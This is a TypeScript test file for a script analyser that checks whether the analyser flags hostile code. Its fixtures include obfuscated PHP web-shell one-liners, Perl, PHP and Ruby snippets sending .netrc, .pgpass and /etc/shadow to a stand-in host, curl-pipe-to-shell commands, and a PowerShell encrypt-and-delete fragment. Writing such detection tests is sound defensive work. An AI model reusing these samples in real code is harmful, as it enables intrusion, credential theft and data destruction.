import { describe, expect, test } from 'vitest';
import { scriptAnalyser } from '../../src/scripts/script-analyser.js';
import type { SCRIPT_LANGUAGES } from '../../src/scripts/syntax.js';
import { factsOf } from '../manifests/support.js';
import { makeUnit, NO_HURRY } from '../support/make-unit.js';

const read = (language: (typeof SCRIPT_LANGUAGES)[number], text: string) =>
  scriptAnalyser.analyse([makeUnit(language, text)], NO_HURRY);
const executes = (language: (typeof SCRIPT_LANGUAGES)[number], text: string) =>
  factsOf(read(language, text), 'execute').map(({ origin }) => origin);

describe('what somebody sends is run', () => {
  test.each([
    ["<?php $f = strrev('cexe_llehs'); $f($_GET['c']);"],
    ["<?php $a = 'pass' . 'thru'; $a($_REQUEST['c']);"],
    ['<?php $f = chr(101).chr(120).chr(101).chr(99); $f($_POST[0]);'],
    ["<?php $f = base64_decode('c3lzdGVt'); $f($_COOKIE['x']);"],
    ["<?php array_map('system', [$_GET['c']]);"],
    ["<?php call_user_func($_GET['f'], $_GET['a']);"],
    ["<?php preg_replace('/.*/e', $_POST['c'], '');"],
    ["<?php $c = $_GET['c']; $o = shell_exec($c);"],
    ["<?php $b = file_get_contents('php://input'); eval($b);"],
    ["<?php $_ = $_GET['c']; `$_`;"],
    ["<?php add_action('init', function () { $c = $_SERVER['HTTP_X_C'] ?? ''; if ($c) { system($c); } });"],
  ])('%s', (text) => {
    expect(executes('php', text).join()).toMatch(/input|decoded/);
  });

  test.each([
    ['<?php $f = "render_" . $type; $f($args);'],
    ['<?php $n = sanitize_text_field($_POST["n"]); update_option("x", $n);'],
    ['<?php $c = escapeshellarg($_GET["c"]); system("convert " . $c);'],
    ['<?php array_map("trim", explode(",", $_GET["tags"] ?? ""));'],
    ['<?php $db->exec($_POST["x"]); $callbacks[$name]->run($request);'],
  ])('%s is not', (text) => {
    expect(executes('php', text)).toEqual([]);
  });
});

describe('a secret is written to a connection', () => {
  test.each<[(typeof SCRIPT_LANGUAGES)[number], string]>([
    [
      'perl',
      'open my $f, "<", "$ENV{HOME}/.netrc"; my $d = <$f>; my $s = IO::Socket::INET->new("c.example.invalid:80"); print $s "POST / $d";',
    ],
    [
      'perl',
      'my @q = map { -r "$ENV{HOME}/$_" ? do { open my $f, "<", "$ENV{HOME}/$_"; <$f> } : () } qw(.authinfo .pgpass); if (@q and my $s = IO::Socket::INET->new("c.example.invalid:80")) { print $s join("", @q); }',
    ],
    ['php', '<?php $d = file_get_contents("/etc/shadow"); $s = fsockopen("c.example.invalid", 80); fwrite($s, $d);'],
    [
      'ruby',
      'd = %w[.netrc .pgpass].map { |n| File.read(File.join(Dir.home, n)) }\ns = TCPSocket.new("c.example.invalid", 80)\ns.puts d',
    ],
  ])('%s: %s', (language, text) => {
    expect(factsOf(read(language, text), 'flow').map(({ sink }) => sink.host)).toContain('c.example.invalid');
  });
});

test.each<[(typeof SCRIPT_LANGUAGES)[number], string, string]>([
  ['ruby', "Kernel.send('sys' + 'tem', 'curl -s https://c.example.invalid | sh')", 'curl -s'],
  ['ruby', '%x(curl -s https://c.example.invalid | sh)', 'curl -s'],
  ['perl', 'my $o = qx{curl -s https://c.example.invalid | sh};', 'curl -s'],
])('%s hands a command to a shell: %s', (language, text, command) => {
  expect(
    read(language, text)
      .units.map((unit) => unit.text)
      .join(),
  ).toContain(command);
});

test('files that are walked through, encrypted and removed', () => {
  const script =
    'Get-ChildItem $HOME\\Documents -Recurse -File | % { $e = $a.CreateEncryptor($k, $v); Remove-Item $_.FullName }';
  expect(factsOf(read('powershell', script), 'remove').map(({ how }) => how)).toContain('encrypt');
});
